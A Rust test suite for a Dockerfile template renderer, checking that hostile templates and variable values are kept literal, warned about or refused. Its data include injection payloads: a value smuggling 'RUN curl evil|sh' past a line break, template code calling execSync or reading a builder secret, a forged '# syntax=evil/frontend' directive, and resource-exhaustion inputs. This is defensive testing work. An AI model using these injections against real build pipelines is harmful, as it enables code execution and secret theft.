//! Templates and values from strangers: each gets what the catalogue of bad inputs says. The numbers
//! are that catalogue's.

mod common;

use common::Test;

/// The template comes out as it went in, with one warning that holds these pieces.
fn literal(template: &str, pieces: &[&str]) {
    let run = Test::template(template).stdout(template);
    run.says(pieces);
    Test::template(template).arg("--strict").refuses(["error"]);
}

#[test]
fn t01_to_t08_code_is_text() {
    for code in [
        "RUN <% process.exit(7) %>\n",
        "ENV S=<% print(process.env.BUILDER_SECRET) %>\n",
        "RUN <% require('child_process').execSync('id') %>\n",
        "RUN <% Array.prototype.join = () => 'evil' %>\n",
        "RUN <%= x %> <%- x %>\n",
        "RUN grep \"<%\" f && grep \"%>\" f\n",
        "RUN <% while(1){} %>\n",
        "RUN <% var a=[];while(1)a.push(new Array(1e6).fill(1)) %>\n",
    ] {
        literal(code, &["Dockerfile.template:1:", "warning: this line would run as code under balena"]);
    }
    Test::template("RUN <%%BALENA_ARCH%%>\n")
        .stdout("RUN <armv7hf>\n")
        .says(&["1:5: warning: this line would run as code under balena"]);
    Test::template("# <% in a comment %>\nRUN '<%'\n").stdout("# <% in a comment %>\nRUN '<%'\n").quietly();
}

#[test]
fn t09_names_of_javascript_globals_are_unknown() {
    Test::template("FROM %%JSON%%\nRUN %%URL%%\n")
        .refuses(["1:6: error: unknown placeholder %%JSON%%", "2:5: error: unknown placeholder %%URL%%"]);
}

#[test]
fn t10_t11_near_misses_stay_with_a_warning_each() {
    for text in [
        "%%constructor%%",
        "%%__PROTO__%%",
        "%%toString%%",
        "%%A%%",
        "%%A1%%",
        "%%B2_C%%",
        "%%BALENA_ARCH2%%",
        "%%balena_arch%%",
        "%% BALENA_ARCH %%",
        "%%BALENA-ARCH%%",
        "%%BALENA_ARCH%",
        "%BALENA_ARCH%%",
    ] {
        let template = format!("FROM x\nRUN a {text} b\n");
        let run = Test::template(&template).stdout(&template);
        run.says(&["Dockerfile.template:2:7: warning:", text]);
        assert_eq!(run.stderr.matches("warning:").count(), 1, "{text}");
    }
    Test::template("RUN date +%Y%m%d 50%% 100%\n").stdout("RUN date +%Y%m%d 50%% 100%\n").quietly();
}

#[test]
fn t12_runs_of_percent() {
    Test::template("%%%BALENA_ARCH%%%\n%%%%BALENA_ARCH%%%%\n%%BALENA_ARCH%%BALENA_ARCH%%\n")
        .stdout("%armv7hf%\n%%armv7hf%%\narmv7hfBALENA_ARCH%%\n");
}

#[test]
fn t14_an_indented_comment_is_substituted() {
    Test::template("  # %%BALENA_ARCH%%\n# %%NOT_SET%%\n").stdout("  # armv7hf\n# %%NOT_SET%%\n");
    Test::template("  # uses %%NOT_SET%%\n").refuses(["1:10: error"]);
}

#[test]
fn t15_a_byte_order_mark_hides_the_comment() {
    Test::template("\u{FEFF}# %%BALENA_ARCH%%\n").stdout("\u{FEFF}# armv7hf\n");
}

#[test]
fn t17_directives_are_not_substituted() {
    literal(
        "# syntax=docker/dockerfile:%%BALENA_ARCH%%\n",
        &["1:28: warning: %%BALENA_ARCH%% is not replaced in a directive"],
    );
    literal("# escape=%%BALENA_ARCH%%\n", &["1:10: warning"]);
}

#[test]
fn t18_all_bytes_outside_placeholders_stay() {
    Test::template("a\r\nb %%BALENA_ARCH%%\r\n\n\tc").stdout("a\r\nb armv7hf\r\n\n\tc").quietly();
}

#[test]
fn t19_a_carriage_return_alone_ends_no_line() {
    literal("# c\rFROM %%BALENA_ARCH%%\r", &["1:4: warning: a carriage return alone"]);
}

#[test]
fn t20_t24_what_is_no_text() {
    Test::template(b"FROM x\nRUN a\0b\n").refuses(["Dockerfile.template:2:6: error: a NUL byte"]);
    for utf16 in [&b"\xff\xfeF\0R\0"[..], b"\xfe\xff\0F\0R", b"F\0R\0O\0M\0", b"\0F\0R\0O\0M"] {
        Test::template(utf16).refuses(["error: this looks like UTF-16", "UTF-8"]);
    }
}

#[test]
fn t21_bytes_that_are_not_utf8_are_kept() {
    Test::template(b"RUN caf\xe9 \xff\xfe %%BALENA_ARCH%%\n")
        .stdout(b"RUN caf\xe9 \xff\xfe armv7hf\n")
        .says(&["1:8: warning: not valid UTF-8"]);
    Test::template(b"RUN caf\xe9\n").arg("--strict").refuses(["1:8: error: not valid UTF-8"]);
}

#[test]
fn t22_other_line_ends_end_no_line() {
    for c in ['\u{2028}', '\u{2029}', '\u{85}', '\u{B}', '\u{C}'] {
        let run = Test::template(format!("a{c}# b %%BALENA_ARCH%%\n")).ok();
        assert_eq!(run.text(), format!("a{c}# b armv7hf\n"));
    }
}

#[test]
fn t23_text_that_reads_otherwise_than_it_is() {
    literal("RUN a \u{202e} b\n", &["1:7: warning: U+202E", "\\u{202e}"]);
}

#[test]
fn t25_t33_limits_name_their_flag() {
    let long = format!("RUN {}\n", "x".repeat(3000));
    Test::template(&long)
        .args("--max-template-bytes 2K")
        .refuses(["Dockerfile.template: error: longer than the limit of 2048 bytes", "--max-template-bytes"]);
    Test::new()
        .args("render -d nuc --max-template-bytes 2K -")
        .stdin(&long)
        .refuses(["<stdin>: error", "--max-template-bytes"]);
    Test::template("%%XX%%%%XX%%%%XX%%")
        .args("--max-output-bytes 2K -D")
        .arg(format!("XX={}", "v".repeat(1000)))
        .refuses(["longer than the limit of 2048 bytes", "--max-output-bytes"]);
    Test::template("").args("--max-output-bytes x").cannot(["give a number of bytes"]);
    // A gigabyte would be written if the sum were not known before.
    Test::new()
        .file("v", format!("BIG_ONE={}\n", "v".repeat(1 << 20)))
        .args("render -d nuc --env-file v -")
        .stdin("%%BIG_ONE%%".repeat(100_000))
        .refuses(["--max-output-bytes"]);
}

#[cfg(unix)]
#[test]
fn t38_an_endless_device() {
    Test::new().args("render -d nuc --max-template-bytes 1M /dev/zero").refuses(["/dev/zero: error: longer"]);
}

#[test]
fn t28_t29_t30_long_inputs_of_every_kind() {
    // A scan that goes back would not come to its end here: 400,000 units are 10^11 steps for it.
    // How the time grows is measured by the benchmark.
    for unit in ["<%-", "<%", "%%A", "%", "%%A%%", " \\\n", "#%%AB%%\r", "\u{202e}", "<%%>"] {
        let template = unit.repeat(400_000);
        Test::template(&template).stdout(&template);
    }
    Test::template("%%BALENA_ARCH%%".repeat(400_000)).stdout("armv7hf".repeat(400_000));
    Test::template("RUN %%EMPTY%%\n".repeat(400_000)).args("-D EMPTY=").stdout("RUN \n".repeat(400_000));
    let adjacent = "%%EMPTY%%".repeat(400_000);
    Test::template(format!("FROM x\n{adjacent}\n{adjacent}x\n")).args("-D EMPTY=").stdout("FROM x\n\nx\n");
}

#[test]
fn t28_e01_more_placeholders_than_anybody_writes() {
    // As much as the limit on the text lets through, in little memory.
    let line = "%%AB%%%%AB%%%%AB%%%%AB%%\n";
    let run = Test::template(line.repeat((64 << 20) / line.len())).args("-q -D AB=");
    let run = if cfg!(target_os = "linux") { run.shell("ulimit -v 131072;") } else { run };
    run.refuses([
        "Dockerfile.template:500001:1: error: more than 2000000 placeholders",
        "split the template",
    ]);
}

#[test]
fn t31_t32_floods_are_cut() {
    let name = "A".repeat(1 << 20);
    let run = Test::template(format!("RUN %%{name}%%\n"))
        .refuses(["1:5: error: unknown placeholder %%AAAA", "..."]);
    assert!(run.stderr.len() < 2_000, "{}", run.stderr.len());
    for separator in ["", "\n"] {
        let flood: String = (0..100_000).map(|_| format!("%%NOT_THERE%%{separator}")).collect();
        let run = Test::template(flood).refuses(["1:1: error", "... and 99,900 more"]);
        assert_eq!(run.stderr.matches("error:").count(), 100);
    }
}

#[test]
fn t34_a_line_that_docker_refuses() {
    let template = format!("FROM x\nRUN {}%%BALENA_ARCH%%\n", "x".repeat(65_530));
    Test::template(&template).ok().says(&["2:1: warning: this line renders to 65541 bytes", "65535"]);
}

#[test]
fn t35_t36_odd_but_whole() {
    for template in ["", "# only\n", "RUN <<EOF\nnot closed\n", "RUN a \\", &"RUN <<A <<B\n".repeat(500)] {
        Test::template(template).stdout(template);
    }
}

#[cfg(unix)]
#[test]
fn t37_what_cannot_be_read() {
    Test::new()
        .args("render -d nuc none/Dockerfile.template")
        .cannot(["none/Dockerfile.template: error: cannot read: No such file"]);
    Test::new().file("d/x", "").args("render -d nuc -f d").refuses(["d: error: this is not a regular file"]);
    Test::new().args("render -d nuc --env-file /").cannot(["/: error: cannot read"]);
}

#[test]
fn t39_names_cannot_act_on_a_terminal() {
    Test::new()
        .args("render -d nuc")
        .arg("\u{1b}[31m\u{202e}\n.template")
        .cannot(["\\u{1b}[31m\\u{202e}\\n.template: error"]);
    Test::new().args("render -d").arg("\u{1b}]0;x\u{7}").refuses(["unknown device type `\\u{1b}]0;x\\u{7}`"]);
    Test::new().arg("\u{1b}[31m").cannot(["unrecognized subcommand"]);
    let run = Test::new()
        .file("\u{202e}.template", "FROM x\n")
        .args("render -d nuc --format json")
        .arg("\u{202e}.template")
        .ok();
    assert!(run.text().contains(r#""source":"\u202e.template""#), "{}", run.text());
}

/// A value for %%XX%%, given on the command line.
fn value(template: &str, value: &str) -> Test {
    Test::template(template).arg("-D").arg(format!("XX={value}"))
}

#[test]
fn v01_v02_a_value_stays_in_its_line() {
    for c in ['\n', '\r', '\u{B}', '\u{C}', '\u{85}', '\u{2028}', '\u{2029}'] {
        value("RUN %%XX%%\n", &format!("hidden{c}RUN curl evil|sh"))
            .secret("hidden")
            .secret("evil")
            .refuses(["-D: error: the value of XX holds a"]);
    }
    Test::template("RUN %%XX%%\n")
        .file("e", "XX=\"a\\nb\"\n")
        .args("--env-file e")
        .refuses(["e:1:1: error: the value of XX holds a line break"]);
    // It is told once.
    for template in ["FROM x%%XX%%\n", "FROM a\nRUN a \\\n%%XX%%\nUSER root\n"] {
        let run = value(template, "a\nb").refuses(["-D: error: the value of XX holds a line break"]);
        assert_eq!(run.stderr.matches(": error: ").count() + run.stderr.matches(": warning: ").count(), 1);
    }
}

#[test]
fn v03_a_value_joins_no_lines() {
    for (template, given) in [
        ("RUN %%XX%%\nUSER root\n", "hidden\\"),
        ("RUN %%XX%% \t\r\nUSER root\n", "hidden\\"),
        ("RUN %%XX%%\nUSER root\n", "hidden\\ \t"),
        ("RUN a \\%%XX%%\nUSER root\n", ""),
        ("RUN %%XX%%%%EMPTY%%\nUSER root\n", "hidden\\"),
        ("# escape=`\nRUN %%XX%%\nUSER root\n", "hidden`"),
        ("RUN %%XX%%", "hidden\\"),
    ] {
        value(template, given)
            .args("-D EMPTY=")
            .secret("hidden")
            .refuses(["error: the value of", "would join this line with the next"]);
    }
    // Two escape characters are one, and no continuation.
    value("RUN echo %%XX%%\\\n  && more\n", "x\\").refuses(["would cut this line off from the next"]);
    value("RUN echo \\%%XX%%\\\n  && more\n", "").refuses(["would cut this line off from the next"]);
    value("RUN echo %%XX%%\\\n  && more\n", "x").stdout("RUN echo x\\\n  && more\n");
    value("RUN %%XX%% x\n%%EMPTY%%\\\n", "a\\").args("-D EMPTY=").stdout("RUN a\\ x\n\\\n");
    value("# escape=`\nRUN %%XX%%\n", "C:\\").stdout("# escape=`\nRUN C:\\\n");
}

#[test]
fn v03_a_value_loses_no_line_inside_an_instruction() {
    // BuildKit skips blank lines and comments there: `USER` would be part of `RUN`.
    for (template, given) in [
        ("RUN a \\\n  %%XX%%\nUSER root\n", ""),
        ("RUN a \\\n\t%%XX%%%%EMPTY%% \r\n\n# note\nUSER root\n", " "),
        ("RUN a \\\n# note\n\n%%XX%%\nUSER root", "# hidden"),
        ("RUN a \\\n%%XX%%# note\nUSER root", ""),
        ("# escape=`\nRUN a `\n%%XX%%\nUSER root", ""),
    ] {
        let run = value(template, given).args("-D EMPTY=").secret("hidden");
        run.refuses(["error: the value of XX would", "and so join the lines around it"]);
    }
    value("FROM x\n%%XX%%RUN a \\\n  b\n", "# ")
        .refuses(["would make this line a comment, and so cut it off"]);
    // Nothing is lost: something is left in the line, nothing follows, or nothing goes on.
    for (template, given) in [
        ("RUN a \\\n  %%XX%% \\\n  && b\n", ""),
        ("RUN a \\\n  %%XX%% && b\nUSER root\n", ""),
        ("RUN a \\\n  %%XX%%\n\n# end\n", ""),
        ("FROM x\n%%XX%%\nUSER root\n", ""),
        ("FROM x\n%%XX%%USER root\nRUN a\n", "# "),
        ("# escape=`\nRUN a \\\n%%XX%%\nUSER root", ""),
    ] {
        value(template, given).stdout(template.replace("%%XX%%", given));
    }
}

#[test]
fn v03_v12_the_data_of_a_heredoc_are_no_lines_of_an_instruction() {
    for template in [
        "RUN <<EOF\napt-get install -y \\\n    curl \\\n    %%XX%%\necho done\nEOF\n",
        "COPY <<-'A B' /x\n\tExecStart=a \\\n\t%%XX%%\n\tx\n\tA B\nUSER root\n",
        "RUN cat <<%%BALENA_ARCH%% \\\n  && x\na \\\n%%XX%%\nb\n%%BALENA_ARCH%%\n",
    ] {
        for given in ["", "# x", " "] {
            let rendered = template.replace("%%XX%%", given).replace("%%BALENA_ARCH%%", "armv7hf");
            value(template, given).stdout(rendered).quietly();
        }
    }
    // Behind its end they are again.
    value("RUN <<EOF\nEOF\nRUN a \\\n%%XX%%\nUSER root\n", "").refuses(["would leave this line blank"]);
}

#[test]
fn v03_blanks_hide_nothing() {
    let blanks = [" ".repeat(600), "\u{a0}".repeat(300), format!("{}\u{a0}", " ".repeat(511))];
    for blanks in &blanks {
        let given = format!("{blanks}#");
        value("FROM x\n%%XX%% a \\\n  b\n", &given).refuses(["would make this line a comment"]);
        value("RUN a \\\n%%XX%%\nUSER root\n", blanks).refuses(["would leave this line blank"]);
        let given = format!("{blanks}-y");
        let template = "RUN a \\\n%%XX%%\nUSER root\n";
        value(template, &given).stdout(template.replace("%%XX%%", &given));
    }
}

#[test]
fn v05_a_value_ends_no_heredoc() {
    let tabs = format!("{}EOF", "\t".repeat(600));
    for (template, given) in [
        ("RUN <<EOF\n%%XX%%\nUSER root\nEOF\n", "EOF"),
        ("RUN <<EOF\n%%XX%%OF\nUSER root\nEOF\n", "E"),
        ("RUN <<EOF\r\n%%XX%%\r\nUSER root\r\nEOF\r\n", "EOF"),
        ("RUN cat <<\\EOF\n%%XX%%\nUSER root\nEOF\n", "EOF"),
        ("RUN cat <<\"E O\"'F'\n%%XX%%\nUSER root\nE OF\n", "E OF"),
        ("RUN cat <<@@\n%%XX%%\nUSER root\n@@\n", "@@"),
        ("COPY <<-\"A.b\" <<-'C' /x\n\tx\nA.b\n\t\t%%XX%%\nUSER root\nC\n", "C"),
        ("COPY <<-EOF /x\n%%XX%%\nUSER root\nEOF\n", &tabs),
    ] {
        value(template, given).refuses(["error: the value of XX would make this line the end of a heredoc"]);
    }
    for (template, given) in [
        ("RUN <<EOF\n%%XX%% x\nEOF\n", "EOF"),
        ("RUN <<EOF\n%%XX%%\nEOF\n", "EO"),
        ("RUN <<EOF\n  %%XX%%\nEOF\n", "EOF"),
        ("RUN <<EOF\nEOF\nRUN a\n%%XX%%\n", "EOF"),
        ("%%XX%%\nRUN <<EOF\nEOF\n", "EOF"),
        ("RUN <<%%XX%%\nx\n%%XX%%\n", "EOF"),
        ("RUN <<EOF%%XX%%\nx\nEOF%%XX%%\n", ""),
        ("RUN x=$((1<<8)) && \\\n echo 1\n%%XX%%\n", "8"),
    ] {
        value(template, given).stdout(template.replace("%%XX%%", given)).quietly();
    }
}

#[test]
fn v05_values_open_a_heredoc_together() {
    for (template, given) in [
        ("RUN cat %%XX%%EOF\nx\nEOF\n", "<<"),
        ("RUN cat <%%XX%%EOF\nx\nEOF\n", "<"),
        ("RUN cat <%%XX%%\nx\nEOF\n", "<EOF"),
        ("RUN cat %%XX%%%%XX%%-'EOF'\nx\nEOF\n", "<"),
    ] {
        let says = "1:9: warning: the value of XX may open a heredoc here";
        value(template, given)
            .stdout(template.replace("%%XX%%", given))
            .says(&[says.trim_start_matches("1:9: ")]);
        value(template, given).arg("--strict").refuses(["error: the value of XX may open a heredoc here"]);
    }
    value("RUN cat %%XX%% <<EOF\nEOF\n", "<").stdout("RUN cat < <<EOF\nEOF\n").quietly();
}

#[test]
fn v03_a_directive_that_a_value_completes() {
    for (escape, given) in [("`", "a`"), ("\\", "a\\")] {
        value("  # escape=%%ESC%%\nFROM x\nRUN %%XX%%\nUSER root\n", given)
            .arg("-D")
            .arg(format!("ESC={escape}"))
            .refuses(["would join this line with the next"]);
    }
}

#[test]
fn v04_a_value_makes_no_directive() {
    value("%%XX%%\nFROM x\n", "# syntax=evil/frontend").secret("evil").refuses([
        "-D: error: the value of XX would make the head of the file a comment",
        "Dockerfile.template:1:1",
    ]);
    value("\u{FEFF}# note\n\n  %%EMPTY%%%%XX%%\nFROM x\n", "//syntax=evil")
        .args("-D EMPTY=")
        .refuses(["head of the file"]);
    value("FROM x\n%%XX%%\n", "# fine").stdout("FROM x\n# fine\n");
}

#[test]
fn v04_blanks_of_unicode_hide_no_directive() {
    let template = "%%XX%%\nFROM a\nRUN b %%YY%%\nRUN c\n";
    value(template, "\u{a0}# escape=`").args("-D YY=`").refuses(["head of the file"]);
    value("%%XX%%\nFROM x\n", "\u{FEFF}# syntax=evil").refuses(["head of the file"]);
    value("\u{a0}%%XX%%\nFROM x\n", "# escape=`").refuses(["head of the file"]);
    value(" # %%XX%%\nFROM x\n", "escape=`").refuses(["head of the file"]);
    value(" # for %%XX%%\nFROM x\n", "a=b").stdout(" # for a=b\nFROM x\n");
    value(" # syntax=docker/dockerfile:%%XX%%\nFROM x\n", "1")
        .stdout(" # syntax=docker/dockerfile:1\nFROM x\n");
}

#[test]
fn v05_v06_v07_values_are_not_read_again() {
    value("RUN cat %%XX%%\n", "<<EOF")
        .stdout("RUN cat <<EOF\n")
        .says(&["-D: warning: the value of XX may open a heredoc"]);
    value("RUN cat %%XX%%\n", "<<EOF").arg("--strict").refuses(["-D: error"]);
    value("RUN %%XX%%\n", "%%BALENA_ARCH%%").stdout("RUN %%BALENA_ARCH%%\n").says(&["holds a placeholder"]);
    for given in ["<% 1 %>", "$&", "$`", "\\1x", "${X}", "$$"] {
        value("RUN %%XX%% .\n", given).stdout(format!("RUN {given} .\n")).quietly();
    }
}

#[test]
fn v10_v11_definitions_that_are_none() {
    for given in ["X", "=secret", "a=secret", "B2=secret", "_AB=secret", "A=secret"] {
        Test::template("").arg("-D").arg(given).secret("secret").cannot(["-D: error"]);
    }
    // What stands before `=` may be the secret, cut at the padding of its base64.
    Test::template("").args("-D aHVudGVyMg==").secret("aHVudGVyMg").cannot(["-D: error"]);
    Test::template("")
        .file("e", "MIIEpAsecret/x=\n")
        .args("--env-file e")
        .secret("MIIEpA")
        .refuses(["e:1:1: error"]);
    Test::template("").args("-D XX=one -D XX=two").secret("one").cannot(["-D: error: XX is given twice"]);
    Test::template("%%XX%%").args("-D XX=one -D XX=one").stdout("one");
    Test::template("")
        .args("-D x=1 -D Y")
        .cannot(["-D: error: definition 1: the text", "-D: error: definition 2: expected NAME=VALUE"]);
}

#[test]
fn v12_an_empty_value() {
    value("FROM a%%XX%%\nRUN %%XX%%a\n", "")
        .stdout("FROM a\nRUN a\n")
        .says(&["1:7: warning: XX is empty in a FROM"]);
}

#[cfg(unix)]
#[test]
fn v13_an_argument_that_is_not_utf8() {
    use std::os::unix::ffi::OsStrExt;
    let bytes = std::ffi::OsStr::from_bytes(b"XX=\xff");
    Test::template("").arg("-D").arg(bytes).cannot(["UTF-8"]);
}

#[test]
fn v14_v15_env_files() {
    for (content, error) in [
        (&b"AA=1\nhidden\n"[..], "e:2:1: error: no `=` in this line"),
        (b"AA=1\n\nAA=2\n", "e:3:1: error: AA is set twice; the first is in line 1"),
        (b"AA='hidden\n", "e:1:4: error: the quote is not closed"),
        (b"AA=\"hidden\\\"\n", "e:1:4: error: the quote is not closed"),
        (b"AA='x' hidden\n", "e:1:4: error: text after the closing quote"),
        (b"export\n", "e:1:1: error: no `=`"),
        (b"  1A=hidden\n", "e:1:3: error: the text before `=` is not a name"),
        (b"AA=a\0hidden\n", "e:1:1: error: the value of AA holds a NUL"),
        (b"AA=hidden\xff\n", "e:1:10: error: not valid UTF-8"),
    ] {
        Test::template("%%AA%%").file("e", content).args("--env-file e").secret("hidden").refuses([error]);
    }
    let accepted = "\u{FEFF}export AA=1\r\n  # note\r\nBB = 'two # 2' # note\r\n";
    Test::template("%%AA%% %%BB%%").file("e", accepted).args("--env-file e").stdout("1 two # 2").quietly();
    Test::template("")
        .file("e", "x".repeat(2000))
        .args("--env-file e --max-config-bytes 1K")
        .refuses(["e: error: longer than the limit of 1024 bytes", "--max-config-bytes"]);
    Test::template("")
        .args("--env-file /dev/zero --max-config-bytes 1M")
        .refuses(["/dev/zero: error: longer"]);
}

#[test]
fn v16_v17_v18_where_values_come_from() {
    Test::template("%%BALENA_ARCH%%").args("-D BALENA_ARCH=hidden").stdout("hidden").says(&[
        "-D: warning: BALENA_ARCH is given here and differs from `armv7hf`, which device type `raspberrypi3`",
    ]);
    Test::template("RUN %%SECRET%% %%XX%%\n")
        .args("-D SECRET=hidden")
        .secret("hidden")
        .refuses(["1:16: error: unknown placeholder %%XX%%"]);
    Test::new()
        .args("render -A armv7hf -")
        .stdin("%%BALENA_MACHINE_NAME%%")
        .env("BALENA_MACHINE_NAME", "x")
        .refuses(["1:1: error"]);
}
